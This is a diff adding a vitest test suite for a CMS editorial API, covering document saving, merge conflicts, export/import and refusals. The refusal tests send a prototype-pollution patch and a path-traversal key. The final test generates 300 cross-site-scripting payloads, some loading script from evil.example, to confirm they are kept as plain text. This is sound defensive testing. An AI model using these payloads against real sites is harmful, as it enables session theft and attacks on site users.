@@ -1,0 +1,297 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { type ApiUnderTest, createApiUnderTest } from '../../../server/testing/api-under-test.ts'
+import { signInPerson } from '../../../server/testing/sign-in-staff.ts'
+import {
+  documentChanged,
+  documentStays,
+  documentTaken,
+  documentTrashed,
+  unknownDocument,
+  unreadableFile,
+} from './refusals.ts'
+
+let api: ApiUnderTest
+beforeAll(async () => {
+  api = await createApiUnderTest(async () => {})
+})
+afterAll(async () => api.close())
+
+const limits = { kind: null, language: null, branch: null }
+
+/** Somebody at the desk who asks. */
+async function person(...grants: readonly { role: string; kind?: string; language?: string }[]) {
+  const roles = grants.map((grant) => ({ ...limits, ...grant }))
+  const { headers } = await signInPerson(api, roles.length === 0 ? undefined : roles)
+  const get = async (path: string, query: Record<string, string> = {}) => {
+    const answer = await api.send({ url: `/v1/desk/${path}?${new URLSearchParams(query)}`, headers })
+    return { status: answer.statusCode, ...answer.json() }
+  }
+  const post = async (path: string, body: unknown) => {
+    const answer = await api.post(`/v1/desk/${path}`, body, headers)
+    return { status: answer.statusCode, ...answer.json() }
+  }
+  return { get, post }
+}
+
+const item = 'news/wuhan-phase-two'
+const title = ['title', 'en-US']
+const replace = (path: readonly (string | number)[], value: unknown) => ({ op: 'replace', path, value })
+
+describe('documents that ship', () => {
+  it('are listed by kind, words and address, with what they are called', async () => {
+    const { get } = await person()
+    const { data } = await get('documents')
+    expect(data.documents.length).toBeGreaterThan(250)
+    expect(Object.values<number>(data.kinds).reduce((sum, count) => sum + count)).toBe(data.documents.length)
+    const found = await get('documents', { text: 'wuhan hub', kind: 'news' })
+    expect(found.data.documents.map(({ name }: { name: string }) => name)).toContain(item)
+    expect(found.data.documents.find(({ name }: { name: string }) => name === item)).toEqual({
+      name: item,
+      kind: 'news',
+      address: '/news/wuhan-phase-two',
+      title: {
+        'zh-CN': '武汉枢纽二期转运中心投入使用',
+        'zh-HK': null,
+        'en-US': 'Phase two of the Wuhan hub opens',
+      },
+      missing: 0,
+      stale: { 'en-US': 0, 'zh-HK': 0 },
+      revision: 0,
+      isShipped: true,
+      changed: null,
+      trashedAt: null,
+      comments: 0,
+    })
+  })
+
+  it('cost little to list', async () => {
+    const { get } = await person()
+    await get('documents')
+    const costs: number[] = []
+    for (let round = 0; round < 7; round += 1) {
+      const before = process.cpuUsage()
+      await get('documents')
+      const { user, system } = process.cpuUsage(before)
+      costs.push((user + system) / 1000)
+    }
+    expect(costs.toSorted((one, other) => one - other)[3]).toBeLessThan(60)
+  })
+
+  it('are opened, changed, told to be wrong, compared, and restored byte for byte', async () => {
+    const { get, post } = await person({ role: 'editor' })
+    const opened = await get('documents/open', { name: item })
+    expect(opened.data).toMatchObject({ revision: 0, problems: [], texts: [], others: [], isShipped: true })
+    const saved = await post('documents/save', {
+      name: item,
+      base: 0,
+      patches: [replace(title, ''), replace(['date'], 'today')],
+    })
+    expect(saved.data).toMatchObject({
+      revision: 1,
+      seed: null,
+      texts: [{ path: ['title'], language: 'en-US', state: 'missing', since: null }],
+    })
+    expect(
+      saved.data.problems.map(({ language, path }: { language: string; path: string[] }) => [language, path]),
+    ).toEqual(
+      expect.arrayContaining([
+        [null, ['date']],
+        ['en-US', title],
+      ]),
+    )
+    const compared = await get('documents/compare', { name: item, from: '0' })
+    expect(compared.data.changes).toMatchObject([
+      { what: 'changed', path: ['date'], before: '2026-11-18', after: 'today' },
+      { what: 'changed', path: title, after: '' },
+    ])
+    expect((await post('documents/restore', { name: item, revision: 0, base: 1 })).data).toEqual({
+      revision: 2,
+    })
+    const restored = await get('documents/open', { name: item })
+    expect(JSON.stringify(restored.data.seed)).toBe(JSON.stringify(opened.data.seed))
+    const { data } = await get('documents/versions', { name: item })
+    expect(
+      data.versions.map(({ revision, action }: { revision: number; action: string }) => [revision, action]),
+    ).toEqual([
+      [2, 'restored'],
+      [1, 'saved'],
+      [0, 'shipped'],
+    ])
+  })
+
+  it('are written as files that are read as the same', async () => {
+    const { get, post } = await person({ role: 'editor' })
+    const name = 'page/products/express'
+    const { data } = await post('documents/export', { names: [name] })
+    expect(data.files[0].file).toBe('pages/products/express.yaml')
+    const { text } = data.files[0]
+    expect((await post('documents/import', { name, text, base: 0 })).data).toEqual({ revision: 0 })
+    const broken = await post('documents/import', {
+      name,
+      text: text.replace('kind: service', 'kind: none'),
+      base: 0,
+    })
+    expect([broken.status, broken.code]).toEqual([422, unreadableFile.code])
+    expect(broken.problems).toEqual([
+      { line: 1 + text.split('\n').indexOf('kind: service'), message: expect.stringMatching(/^kind: /) },
+    ])
+    expect((await get('documents/open', { name })).data.revision).toBe(0)
+  })
+})
+
+describe('who changes what somebody else changed', () => {
+  it('is told both, and keeps what only they changed', async () => {
+    const [one, other] = [
+      await person({ role: 'editor' }),
+      await person({ role: 'translator', language: 'en-US' }),
+    ]
+    const { name } = (await one.post('documents', { kind: 'news', key: 'two-at-once', like: item })).data
+    await one.post('documents/save', { name, base: 1, patches: [replace(title, 'One')] })
+    const clash = await other.post('documents/save', { name, base: 1, patches: [replace(title, 'Other')] })
+    expect([clash.status, clash.code]).toEqual([409, documentChanged.code])
+    expect(clash).toMatchObject({
+      revision: 2,
+      conflicts: [{ path: title, before: 'Phase two of the Wuhan hub opens', mine: 'Other', theirs: 'One' }],
+    })
+    const merged = await other.post('documents/save', {
+      name,
+      base: 1,
+      patches: [replace(['summary', 'en-US'], 'Shorter')],
+    })
+    expect(merged.data).toMatchObject({ revision: 3, seed: { title: { 'en-US': 'One' } } })
+  })
+})
+
+describe('refused', () => {
+  it.each<[string, string, unknown, number]>([
+    [
+      'a document that there is not',
+      'save',
+      { name: 'news/none', base: 0, patches: [] },
+      unknownDocument.code,
+    ],
+    ['one that there is', '', { kind: 'news', key: 'wuhan-phase-two' }, documentTaken.code],
+    ['an address that is none', '', { kind: 'news', key: '../a' }, 1400],
+    ['a kind that is none', '', { kind: 'poem', key: 'a' }, 1400],
+    [
+      'what the site needs, into the trash',
+      'trash',
+      { name: 'document/home', isTrashed: true },
+      documentStays.code,
+    ],
+    ['what is in no trash, deleted', 'delete', { name: item }, documentStays.code],
+    ['a prototype', 'save', { name: item, base: 0, patches: [replace(['__proto__', 'x'], 1)] }, 1400],
+    ['a file that is none', 'import', { name: item, text: ': :', base: 0 }, unreadableFile.code],
+    ['a place behind the end', 'save', { name: item, base: 0, patches: [replace(['body', 999], 1)] }, 1400],
+    [
+      'too many patches',
+      'save',
+      { name: item, base: 0, patches: new Array(501).fill(replace(['date'], 'x')) },
+      1400,
+    ],
+    ['a field that there is not', 'save', { name: item, base: 0, patches: [], force: true }, 1400],
+    ['no revision', 'save', { name: item, base: -1, patches: [] }, 1400],
+    ['a comment that says nothing', 'comments', { name: item, path: [], text: '' }, 1400],
+  ])('%s', async (_what, path, body, code) => {
+    const { post } = await person()
+    expect((await post(`documents${path === '' ? '' : `/${path}`}`, body)).code).toBe(code)
+  })
+
+  it('what lies in the trash is not changed', async () => {
+    const { post } = await person()
+    const { name } = (await post('documents', { kind: 'question', key: 'into-the-trash' })).data
+    await post('documents/trash', { name, isTrashed: true })
+    const answer = await post('documents/save', { name, base: 1, patches: [replace(['topic'], 'price')] })
+    expect([answer.status, answer.code]).toEqual([409, documentTrashed.code])
+    expect((await post('documents/delete', { name })).status).toBe(200)
+  })
+
+  it('a part that is of another language, by its path', async () => {
+    const { post } = await person({ role: 'translator', language: 'en-US' })
+    const answer = await post('documents/save', {
+      name: 'news/lhasa-morning',
+      base: 0,
+      patches: [replace(['title', 'zh-CN'], '别的')],
+    })
+    expect(answer).toMatchObject({ status: 403, fields: [{ path: 'title.zh-CN' }] })
+  })
+})
+
+describe('beside the texts', () => {
+  it('comments, presence, uses, links, facts and redirects', async () => {
+    const [one, other] = [await person({ role: 'editor' }), await person({ role: 'reviewer' })]
+    const { id } = (await other.post('documents/comments', { name: item, path: title, text: '短一点' })).data
+    await other.post('documents/presence', { name: item, isOpen: true })
+    const { data } = await one.get('documents/open', { name: item })
+    expect(data.comments).toMatchObject([{ id, path: title, text: '短一点', resolvedAt: null }])
+    expect(data.others).toMatchObject([{ name: '样例员工' }])
+    expect((await one.post(`documents/comments/${id}`, { isResolved: true })).status).toBe(200)
+    expect((await one.post('documents/presence', { name: item, isOpen: true })).data.others).toHaveLength(1)
+    const used = await one.get('documents/used', { what: 'path', value: '/products/express' })
+    expect(used.data.documents.map(({ name }: { name: string }) => name)).toEqual(
+      expect.arrayContaining([item, 'document/navigation']),
+    )
+    const links = await one.get('links', { text: '查运单' })
+    expect(links.data.links).toContainEqual(expect.objectContaining({ path: '/track', kind: 'tool' }))
+    const { facts } = (await one.get('facts')).data
+    expect(facts).toContainEqual(expect.objectContaining({ id: 'warehouses', isCurrent: true }))
+    await one.post('documents', { kind: 'news', key: 'old-name', like: item })
+    const renamed = await one.post('documents/rename', { name: 'news/old-name', key: 'new-name' })
+    expect(renamed.data).toEqual({ name: 'news/new-name', revision: 2 })
+    expect((await one.get('redirects')).data.redirects).toMatchObject([
+      { from: '/news/old-name', to: '/news/new-name', name: 'news/new-name' },
+    ])
+    const texts = await one.post('documents/confirm', { name: item, language: 'en-US', paths: 'all' })
+    expect(texts.data).toEqual({ texts: [] })
+  })
+})
+
+/** What somebody might try to have run, in ways that filters have let through. */
+const payloads = Array.from({ length: 300 }, (_, n) => {
+  const call = `alert(${n})`
+  const forms = [
+    `<script>${call}</script>`,
+    `<ScRiPt src=//evil.example/${n}></sCrIpT>`,
+    `"><img src=x onerror=${call}>`,
+    `'><svg/onload=${call}>`,
+    `<svg><script>${call}</script></svg>`,
+    `javascript:${call}`,
+    `jav&#x09;ascript:${call}`,
+    `data:text/html;base64,PHNjcmlwdD5hbGVydCg${n}`,
+    `</title><script>${call}</script>`,
+    `</textarea><iframe srcdoc="<script>${call}</script>">`,
+    `{{constructor.constructor('${call}')()}}`,
+    `\${${call}}`,
+    `<!--<img src="--><img src=x onerror=${call}//">`,
+    `<a href="javascript:${call}">x</a>`,
+    `<style>@import'//evil.example/${n}';</style>`,
+    `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+    `<body onload=${call}>`,
+    `<details open ontoggle=${call}>`,
+    `]]><script>${call}</script>`,
+    `&lt;script&gt;${call}&lt;/script&gt;`,
+  ]
+  return forms[n % forms.length] ?? ''
+})
+
+it('300 scripts in texts are kept and given back as the texts they are', async () => {
+  const { get, post } = await person({ role: 'editor' })
+  const { name } = (await post('documents', { kind: 'news', key: 'scripts', like: item })).data
+  const body = payloads.map((payload) => ({
+    kind: 'paragraph',
+    text: { 'zh-CN': payload, 'en-US': payload },
+  }))
+  const patches = [replace(['body'], body), replace(title, payloads[0])]
+  expect((await post('documents/save', { name, base: 1, patches })).status).toBe(200)
+  const opened = await api.send({
+    url: `/v1/desk/documents/open?name=${name}`,
+    headers: (await signInPerson(api)).headers,
+  })
+  expect(opened.headers['content-type']).toMatch(/^application\/json/)
+  expect(opened.json().data.seed.body).toEqual(body)
+  const file = (await post('documents/export', { names: [name] })).data.files[0]
+  expect((await post('documents/import', { name, text: file.text, base: 2 })).code).toBe(1)
+  expect((await get('documents/open', { name })).data).toMatchObject({ revision: 2, seed: { body } })
+  const listed = await get('documents', { text: 'alert(0)' })
+  expect(listed.data.documents[0].title['en-US']).toBe(payloads[0])
+})
